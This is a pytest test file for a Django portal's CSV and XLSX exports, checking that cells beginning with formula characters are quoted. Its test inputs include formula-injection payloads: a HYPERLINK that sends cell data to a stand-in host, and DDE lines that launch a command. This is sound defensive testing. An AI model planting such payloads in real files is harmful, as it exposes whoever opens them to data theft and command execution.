"""Exports that cannot run code (issue 11, item 6): every CSV and XLSX writer of the portal, tested with
each of the six leading characters a spreadsheet would act on."""

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from dashboards.api import CsvRenderer
from dashboards.exports import ExportTable, as_csv, as_xlsx
from placements.management.commands.import_placements import Command as ImportPlacements
from placements.models import Flag
from portal.exchange import ImportReport, RowError
from portal.sanitize import safe_cell
from tests.placements.builders import make_placement

# What an attacker would put in an imported id or a name: each starts with one of the six.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def assert_inert(cell) -> None:
    """Text a spreadsheet shows as text: it starts with none of the six."""
    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_helper_quotes_exactly_the_six_and_leaves_numbers_alone():
    assert [safe_cell(value) for value in DANGEROUS] == ["'" + value for value in DANGEROUS]
    assert safe_cell("T-00001") == "T-00001"
    assert safe_cell("<5") == "<5"
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None


def test_the_flags_csv_export_neutralises_every_imported_id(db):
    now = timezone.now()
    for value in DANGEROUS:
        placement = make_placement(external_id=value)
        Flag.objects.create(
            placement=placement,
            rule="TEST-CSV",
            rule_version=1,
            severity="C",
            first_seen_at=now,
            last_seen_at=now,
        )
    out = io.StringIO()

    call_command("export_flags", "--format", "csv", stdout=out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    exported = {row["external_id"] for row in rows if row["rule"] == "TEST-CSV"}
    assert exported == {"'" + value for value in DANGEROUS}
    for row in rows:
        for cell in row.values():
            assert_inert(cell)


def test_the_import_report_csv_neutralises_every_cell(db, tmp_path, monkeypatch):
    rejected = [RowError(n, value, value) for n, value in enumerate(DANGEROUS, start=2)]
    monkeypatch.setattr(
        ImportPlacements, "importer", staticmethod(lambda **kwargs: ImportReport(rejected=rejected))
    )
    source = tmp_path / "placements.csv"
    source.write_text("external_id\n")
    report = tmp_path / "report.csv"

    call_command("import_placements", str(source), "--report", str(report), stdout=io.StringIO())

    cells = csv_cells(report.read_text(encoding="utf-8"))
    assert len(cells) == 3 + 3 * len(DANGEROUS)
    for cell in cells:
        assert_inert(cell)


def dprd_export() -> tuple[SimpleNamespace, ExportTable]:
    dashboard = SimpleNamespace(name=DANGEROUS[0], code="18.07", period="2026-01 – 2026-11")
    table = ExportTable(
        "wilayah", DANGEROUS[1], ["Kode", *DANGEROUS], [list(DANGEROUS), [1, 2, "<5", 0, 3, 4]]
    )
    return dashboard, table


def test_the_dprd_csv_table_neutralises_every_cell():
    dashboard, table = dprd_export()

    cells = csv_cells(as_csv(dashboard, table))

    for cell in cells:
        assert_inert(cell)


def test_the_dprd_workbook_neutralises_every_cell_and_keeps_counts_as_numbers():
    dashboard, table = dprd_export()

    sheet = load_workbook(io.BytesIO(as_xlsx(dashboard, [table])))["wilayah"]

    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for value in values:
        if not isinstance(value, int):
            assert_inert(value)
    # XML stores a carriage return as a line feed; what matters is the quote in front.
    assert {"'" + value.replace("\r", "\n") for value in DANGEROUS} <= set(values)
    assert [1, 2] == [v for v in values if isinstance(v, int)][:2]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("value", DANGEROUS)
def test_the_stats_api_csv_neutralises_every_cell(value):
    body = CsvRenderer().render({"villages": [{"village_code": value, "name": value, "flags": 3}]})

    cells = csv_cells(body.decode())
    assert cells[3:] == ["'" + value, "'" + value, "3"]


# Writers that produce no file a person opens: the demo seeder feeds its CSV straight to the importer.
NOT_EXPORTS = {"placements/demo.py", "portal/sanitize.py"}


def test_no_module_writes_csv_or_xlsx_except_through_the_helper():
    root = Path(__file__).resolve().parents[2]
    apps = ["accounts", "workers", "placements", "complaints", "outreach", "dashboards", "regions", "portal"]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if str(path.relative_to(root)) not in NOT_EXPORTS
        and re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", path.read_text())
        and "safe_" not in path.read_text()
    ]
    assert offenders == []
